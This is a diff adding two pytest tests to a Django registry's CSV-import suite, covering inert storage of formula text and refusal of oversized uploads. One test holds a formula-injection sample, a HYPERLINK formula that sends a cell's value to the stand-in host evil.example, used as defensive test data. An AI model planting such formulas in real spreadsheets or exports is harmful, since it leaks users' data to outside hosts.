@@ -351,3 +351,30 @@ def test_a_wrong_type_names_its_row_and_column(investigator_a, case_a):
     [problem] = report.errors
     assert (problem.row, problem.column, problem.value) == (2, "le_diagnosis_date", "yesterday")
     assert "date" in problem.message.lower() and not Demographics.objects.exists()
+
+
+def test_formula_text_in_a_csv_is_kept_as_inert_text(investigator_a, case_a):
+    """A CSV has no formulas: "=HYPERLINK(…)" is stored as the text typed, never evaluated;
+    the exports neutralise it (tests/exports/test_pipeline.py, allowed free text)."""
+    injected = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    data = demographics_csv([{"case_code": case_a.code, "death_cause_detail": injected}])
+    report = run(investigator_a, data)
+
+    assert report.applied, (report.file_errors, report.errors)
+    assert Demographics.objects.get().death_cause_detail == injected
+
+
+def test_the_page_refuses_a_file_over_the_limit_before_reading_it(
+    client, investigator_a, case_a, settings
+):
+    settings.REGISTRY_IMPORT_MAX_BYTES = 1000
+    client.force_login(investigator_a)
+    rows = [{"case_code": case_a.code, "sex": "male", "death_cause_detail": "x" * 90}] * 60
+    data = demographics_csv(rows)
+    assert len(data) > 5000
+
+    page = upload(client, data)
+    assert page.status_code == 200 and "over the limit" in page.content.decode()
+    assert "report" not in page.context
+    assert not Demographics.objects.exists()
+    assert not any(settings.REGISTRY_IMPORT_ROOT.rglob("*"))  # nothing kept
